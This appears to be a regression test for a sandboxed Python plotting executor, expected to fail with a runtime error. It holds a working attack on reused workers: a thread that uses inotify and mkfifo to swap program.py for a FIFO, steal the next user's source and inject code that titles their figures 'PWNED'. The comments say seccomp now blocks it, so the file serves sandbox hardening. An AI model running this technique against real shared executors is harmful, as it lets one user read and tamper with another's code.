# expect: runtime_error
# (it leaves a thread running: the sandbox refuses to capture figures another thread can still
# change, and a reuse worker is retired)
# Reusable workers: like reuse_symlink_replant, but program.py is re-planted as a FIFO. The
# executor's open() of program.py for the next program then blocks (outside any deadline) until
# this thread opens the FIFO to read -- which it does after 1 s, stealing the next program's
# source -- and the worker's own read of program.py blocks until the thread writes the source
# back, with a line appended that titles the victim's figures "PWNED: injected ...". The next
# program on this worker is delayed past its budget and runs code it did not send. Today seccomp
# refuses mknodat, so no FIFO can be made and this fails; it stays to keep it so. (The harness
# clears the program's globals when it ends: the threads keep what they need as defaults.)
import _thread
import ctypes
import os
import select
import time
import matplotlib.pyplot as plt
libc = ctypes.CDLL(None, use_errno=True)
here = os.getcwd()
path = os.path.join(here, "program.py")
for i in range(1500):
    libc.close(libc.open(f"pad{i}".encode(), os.O_CREAT | os.O_WRONLY, 0o600))
INJECT = (b"\nimport matplotlib.pyplot as _p\nfor _a in _p.gcf().axes:\n"
          b"    _a.set_title('PWNED: injected by reuse_fifo_replant')\n")


def steal(os=os, select=select, time=time, path=path, INJECT=INJECT) -> None:  # noqa: ANN001
    time.sleep(1.0)
    try:
        rfd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return
    source = b""
    end = time.monotonic() + 3
    while time.monotonic() < end:
        if select.select([rfd], [], [], 0.2)[0]:
            chunk = os.read(rfd, 65536)
            if not chunk and source:
                break
            source += chunk
    os.close(rfd)
    wfd = os.open(path, os.O_WRONLY)  # blocks until the worker opens it to read
    os.write(wfd, source + INJECT)
    os.close(wfd)


def replant(libc=libc, os=os, select=select, time=time,  # noqa: ANN001
            here=here, path=path, steal=steal) -> None:  # fmt: skip
    fd = libc.inotify_init1(os.O_NONBLOCK)
    wd = libc.inotify_add_watch(fd, here.encode(), 0x200) if fd >= 0 else -1  # IN_DELETE
    end = time.monotonic() + (30 if wd >= 0 else 3)
    while time.monotonic() < end:
        if wd >= 0:  # sleep until the executor deletes something here
            if not select.select([fd], [], [], 0.5)[0]:
                continue
            try:
                os.read(fd, 1 << 16)
            except BlockingIOError:
                continue
        spin = time.monotonic() + 0.2
        while time.monotonic() < spin:
            if libc.mkfifo(path.encode(), 0o600) == 0:
                steal()
                return


_thread.start_new_thread(replant, ())
plt.title("fifo planter")
plt.plot([0, 1])
